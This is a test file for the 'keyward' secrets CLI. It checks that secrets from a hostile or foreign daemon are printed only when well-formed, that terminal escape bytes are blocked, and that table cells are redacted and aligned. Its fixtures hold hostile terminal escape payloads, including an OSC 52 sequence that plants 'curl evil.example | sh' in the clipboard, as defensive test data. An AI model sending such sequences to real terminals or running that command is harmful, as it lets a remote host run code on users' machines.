/**
 * `keyward … --url` pointed at a server that is not a keyward daemon, or a hostile one: the
 * secret line is the one text printed unsanitized, so a "secret" that is not shaped like one is
 * never printed; and tables measure their cells as they are shown.
 */
import { randomBytes } from 'node:crypto';
import { afterAll, beforeAll, describe, expect, it, vi } from 'vitest';
import type { KeyJson } from '../../src/client/client.js';
import { ALERT_EXAMPLE, TOMBSTONE_EXAMPLE } from '../../src/daemon/alerts/schemas.js';
import { generateSecret, KEY_PREFIX, OPERATOR_TOKEN_PREFIX } from '../../src/daemon/secrets/format.js';
import { keyJson } from '../tui/key-json.js';
import { fakeDaemon, type FakeDaemon } from './fake-daemon.js';
import type { CliRun } from './harness.js';

vi.setConfig({ testTimeout: 90_000 });

const KEY = keyJson({ id: 'key_3kTMd8p6NxLw0aQvYc1bZe', name: 'billing' });
const ROTATION = { id: 'rot_8fQ2', oldKeyId: KEY.id, oldKeyName: 'billing', newKeyId: 'key_9aB', newKeyName: 'billing-2', watchSeconds: 600 };

/** Every command that prints a secret, and the kind of secret it prints. */
const REVEALING = [
  { name: 'keys create', args: ['keys', 'create', 'billing'], kind: 'key' },
  { name: 'keys rotate', args: ['keys', 'rotate', KEY.id], kind: 'key' },
  { name: 'keys rotate --emergency', args: ['keys', 'rotate', KEY.id, '--emergency', '--yes'], kind: 'key' },
  { name: 'operators create', args: ['operators', 'create', 'alice', '--role', 'viewer'], kind: 'token' },
  { name: 'webhooks add', args: ['webhooks', 'add', 'https://hooks.example.com/keyward'], kind: 'signing secret' },
] as const;

type Kind = (typeof REVEALING)[number]['kind'];

const WELL_FORMED: Record<Kind, () => string> = {
  key: () => generateSecret(KEY_PREFIX),
  token: () => generateSecret(OPERATOR_TOKEN_PREFIX),
  'signing secret': () => `whsec_${randomBytes(32).toString('base64url')}`,
};

const PREFIX: Record<Kind, string> = { key: 'kw_', token: 'kwo_', 'signing secret': 'whsec_' };

/** What a hostile server might pass off as a secret: each steers a terminal. */
const HOSTILE = {
  'clear screen': '\x1b[2J',
  'OSC 52 (writes the clipboard)': `\x1b]52;c;${Buffer.from('curl evil.example | sh').toString('base64')}\x07`,
  'C1 CSI': '\u009b2J',
};

/** Anything a terminal would act on. */
const STEERING = /[\u0000-\u0008\u000b-\u001f\u007f-\u009f]/;

let secret = '';
let daemon: FakeDaemon;
beforeAll(async () => {
  daemon = await fakeDaemon((method) =>
    method === 'GET'
      ? { key: KEY }
      : { key: KEY, rotation: ROTATION, operator: { id: 'op_1', name: 'alice', role: 'viewer' }, webhook: { id: 'whk_1', url: 'https://hooks.example.com/keyward', events: ['*'] }, secret, token: secret },
  );
});
afterAll(() => daemon?.close());

async function answering(value: string, args: readonly string[]): Promise<CliRun> {
  secret = value;
  return daemon.run(args);
}

describe('a secret is printed only when it has the shape of one', () => {
  it.each(REVEALING)('$name prints a well-formed $kind alone on stdout', async ({ args, kind }) => {
    const good = WELL_FORMED[kind]();
    const run = await answering(good, args);
    expect(run.code, run.stderr).toBe(0);
    expect(run.stdout).toBe(`${good}\n`);
  });

  it.each(REVEALING)('$name refuses a malformed $kind: one line, exit 1, nothing printed', async ({ args, kind }) => {
    const wrong = [...Object.values(HOSTILE).map((bytes) => `${PREFIX[kind]}${bytes}`), `${WELL_FORMED[kind]().slice(0, -1)}!`, kind === 'token' ? generateSecret(KEY_PREFIX) : generateSecret(OPERATOR_TOKEN_PREFIX)];
    for (const value of wrong) {
      for (const json of [[], ['--json']]) {
        const run = await answering(value, [...args, ...json]);
        expect(run.code, JSON.stringify(value)).toBe(1);
        expect(run.stdout).toBe('');
        expect(run.stderr).toBe(`keyward: the daemon answered a malformed ${kind}; it was not printed\n`);
      }
    }
  });

  it('never lets the hostile bytes reach the terminal', async () => {
    for (const [what, bytes] of Object.entries(HOSTILE)) {
      const run = await answering(`kw_${bytes}`, ['keys', 'create', 'billing']);
      expect(run.stdout + run.stderr, what).not.toMatch(STEERING);
    }
  });
});

describe('a table measures its cells as they are shown', () => {
  // A zero-width space splits a secret-shaped run: removing it makes one to redact, which
  // must happen before the cell is measured, not when its line is printed.
  const split = `kw_AAAA\u200bBBBBBBBBBBBBBBBBBBBB`;
  let tables: FakeDaemon;
  beforeAll(async () => {
    const keys = [keyJson({ id: 'key_1', name: split }), keyJson({ id: 'key_2', name: 'plain' })];
    const tombstones = keys.map((k) => ({ ...TOMBSTONE_EXAMPLE, keyId: k.id, name: k.name }));
    tables = await fakeDaemon((_method, path) => (path.startsWith('/v1/tombstones') ? { tombstones, nextCursor: null } : { keys, nextCursor: null, prevCursor: null }));
  });
  afterAll(() => tables?.close());

  /** Each row's id starts where the ID header does. */
  function expectAligned(run: CliRun): void {
    expect(run.code, run.stderr).toBe(0);
    const [header, ...rows] = run.stdout.trimEnd().split('\n');
    expect(rows).toHaveLength(2);
    for (const row of rows) expect(row.indexOf('key_'), run.stdout).toBe(header!.indexOf(' ID ') + 1);
    expect(run.stdout, 'the secret-shaped name is redacted').not.toMatch(/kw_[0-9A-Za-z]{16,}/);
  }

  it('keys list', async () => expectAligned(await tables.run(['keys', 'list'])));
  it('keys list --status deleted', async () => expectAligned(await tables.run(['keys', 'list', '--status', 'deleted'])));
});

describe('a daemon from before the name= and key= filters', () => {
  // It ignores both, answering its first page of every key and every open alert: the CLI
  // checks the match itself rather than take the first row.
  let older: FakeDaemon;
  const billing = keyJson({ id: 'key_5Hq2Lw8Nc3Xv7Rb1Tk9Pmz', name: 'billing' });
  const other = keyJson({ id: 'key_7Dn4Wq1Zs8Kc2Vm6Hx3Lbt', name: 'billing-eu' });
  // A leak's alert names where it was found as its caller.
  const alertOf = (key: KeyJson, id: string) => ({ ...ALERT_EXAMPLE, id, kind: 'key.leaked', keyId: key.id, keyName: key.name, caller: `${key.name}.env:1`, ip: null });
  beforeAll(async () => {
    older = await fakeDaemon((_method, path) =>
      path.startsWith('/v1/alerts')
        ? { alerts: [alertOf(other, 'alr_1Aa2Bb3Cc4Dd5Ee6Ff7Gg8'), alertOf(billing, 'alr_2Hh3Jj4Kk5Ll6Mm7Nn8Pp9')], nextCursor: null }
        : { keys: [other, billing], nextCursor: null, prevCursor: null },
    );
  });
  afterAll(() => older?.close());

  it('keys show finds the key by its whole name and lists only its own alerts', async () => {
    const run = await older.run(['keys', 'show', 'billing']);
    expect(run.code, run.stderr).toBe(0);
    expect(run.stdout).toMatch(/^name {9}billing\n/);
    expect(run.stdout).toContain('leaked by billing.env:1');
    expect(run.stdout).not.toContain('billing-eu');
  });

  it('a name it has no key of is refused, not taken from the first row', async () => {
    const run = await older.run(['keys', 'show', 'billing-us']);
    expect(run.code).toBe(1);
    expect(run.stderr).toBe('keyward: no key with id or name "billing-us" (see "keyward keys list")\n');
  });
});
